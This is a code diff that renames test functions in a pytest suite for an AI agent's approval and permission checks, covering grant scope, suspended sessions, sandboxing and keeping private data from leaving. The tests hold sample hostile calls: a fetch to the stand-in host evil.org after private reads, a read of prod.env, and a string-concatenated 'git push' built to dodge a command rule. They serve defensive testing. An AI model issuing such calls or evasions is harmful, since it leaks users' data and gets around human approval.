@@ -410,7 +410,7 @@ GRANTS: list[tuple[str, Call, Call, Outcome]] = [
 @pytest.mark.parametrize(("first", "then", "outcome"), [
     pytest.param(first, then, outcome, id=name) for name, first, then, outcome in GRANTS
 ])  # fmt: skip
-async def test_a_grant_reaches_as_far_as_its_answer_said(
+async def test_grant_covers_only_its_scope(
     root: Path, first: Call, then: Call, outcome: Outcome
 ) -> None:
     desk = Desk(root, (), alone=False)
@@ -418,7 +418,7 @@ async def test_a_grant_reaches_as_far_as_its_answer_said(
     assert desk.call(then) == outcome
 
 
-async def test_the_same_command_on_a_link_that_was_turned_is_asked_about(root: Path) -> None:
+async def test_retargeted_link_asks_again(root: Path) -> None:
     link = root / "link.md"
     link.symlink_to("notes.md")
     desk = Desk(root, ())
@@ -566,7 +566,7 @@ MIXED: list[tuple[str, tuple[Rule, ...], list[Call], Call, Outcome]] = [
     pytest.param(rules, before, call, outcome, id=name)
     for name, rules, before, call, outcome in MIXED
 ])  # fmt: skip
-async def test_private_data_words_of_others_and_a_way_out_never_meet_unasked(
+async def test_private_data_never_leaves_unasked(
     root: Path, rules: tuple[Rule, ...], before: list[Call], call: Call, outcome: Outcome
 ) -> None:
     desk = Desk(root, rules, alone=not any(each.by == "bob" for each in (*before, call)))
@@ -591,7 +591,7 @@ async def test_auto_mode_asks_before_they_meet(root: Path) -> None:
     assert request.origins == ("messages of bob",)
 
 
-async def test_a_room_that_is_opened_again_knows_what_was_read(root: Path) -> None:
+async def test_reopened_room_knows_reads(root: Path) -> None:
     desk = Desk(root, ANY_FETCH)
     desk.call(PAGE)
     desk.call(read("notes.md"))
@@ -608,7 +608,7 @@ async def test_a_room_that_is_opened_again_knows_what_was_read(root: Path) -> No
     assert desk.call(fetch("https://evil.org/?q=two")) == "asks"
 
 
-async def test_a_long_room_that_is_opened_again_knows_who_spoke(
+async def test_reopened_long_room_knows_speakers(
     root: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(room_state, "WINDOW", 3)
@@ -625,7 +625,7 @@ async def test_a_long_room_that_is_opened_again_knows_who_spoke(
     assert again.call(PAGE) == "asks"
 
 
-async def test_quoted_and_recovered_words_are_those_of_others(root: Path) -> None:
+async def test_quoted_words_count_as_others(root: Path) -> None:
     desk = Desk(root, ANY_FETCH)
     desk.call(read("notes.md"))
     assert desk.call(PAGE) == "runs"
@@ -640,7 +640,7 @@ async def test_quoted_and_recovered_words_are_those_of_others(root: Path) -> Non
     assert desk.call(read("prod.env")) == "asks"
 
 
-async def test_a_grant_after_a_pause_is_for_the_tool_that_was_shown(root: Path) -> None:
+async def test_grant_after_pause_needs_same_tool(root: Path) -> None:
     desk = Desk(root, ())
     assert desk.call(Call("mail", {"to": "a"}, schema={"description": "Sends mail."})) == "asks"
     desk.approvals.close("the room was suspended")
@@ -654,7 +654,7 @@ async def test_a_grant_after_a_pause_is_for_the_tool_that_was_shown(root: Path) 
     assert again.call(Call("mail", {"to": "b"}, schema=same)) == "asks"  # the grant has ended
 
 
-async def test_an_edit_after_a_pause_is_made_to_the_file_that_was_shown(root: Path) -> None:
+async def test_edit_after_pause_needs_same_file(root: Path) -> None:
     change = edit("notes.md", "one")
     desk = Desk(root, ())
     assert desk.call(change) == "asks"
@@ -669,14 +669,14 @@ async def test_an_edit_after_a_pause_is_made_to_the_file_that_was_shown(root: Pa
     assert approval.answer
 
 
-async def test_auto_mode_does_not_guess_what_a_rule_about_commands_means(root: Path) -> None:
+async def test_auto_mode_asks_on_unclear_command(root: Path) -> None:
     desk = Desk(root, NO_PUSH)
     desk.approvals.auto = True
     assert desk.call(run("ls")) == "runs"
     assert desk.call(run("python3 -c \"os.system('git ' + 'push')\"")) == "asks"
 
 
-async def test_a_secret_is_compared_as_it_is_and_shown_masked(root: Path) -> None:
+async def test_secret_is_compared_and_masked(root: Path) -> None:
     know(["hunter2secret"])
     (root / "conf.txt").write_text("hunter2secret\n")
     desk = Desk(root, ())
@@ -719,7 +719,7 @@ async def test_an_edited_call_shows_what_it_would_do(root: Path) -> None:
     assert desk.approvals.preview("unknown", edited) is None
 
 
-async def test_a_change_too_long_to_review_is_denied_only_if_a_person_would_be_asked(
+async def test_long_change_is_denied_unless_auto(
     root: Path,
 ) -> None:
     (root / "many.txt").write_text("a\n" * 6_000)
@@ -731,7 +731,7 @@ async def test_a_change_too_long_to_review_is_denied_only_if_a_person_would_be_a
     assert desk.call(edit) == "runs"
 
 
-async def test_an_edited_call_is_granted_and_logged_as_edited(root: Path) -> None:
+async def test_edited_call_is_granted_as_edited(root: Path) -> None:
     desk = Desk(root, ANY_FETCH, alone=False)
     desk.say("hello", "bob")
     edited = Answer(allow=True, scope="session", arguments={"path": "docs/a.md", "content": "b"})
@@ -741,7 +741,7 @@ async def test_an_edited_call_is_granted_and_logged_as_edited(root: Path) -> Non
 
 
 @pytest.mark.skipif(not find_backend().name, reason="no sandbox on this machine")
-async def test_a_command_without_network_sends_out_nothing(root: Path) -> None:
+async def test_offline_command_sends_nothing_out(root: Path) -> None:
     cats = (Rule("allow", command="cat *"),)
     desk = Desk(root, cats, alone=False, sandbox=Sandbox())
     desk.say("print notes.md", "bob")
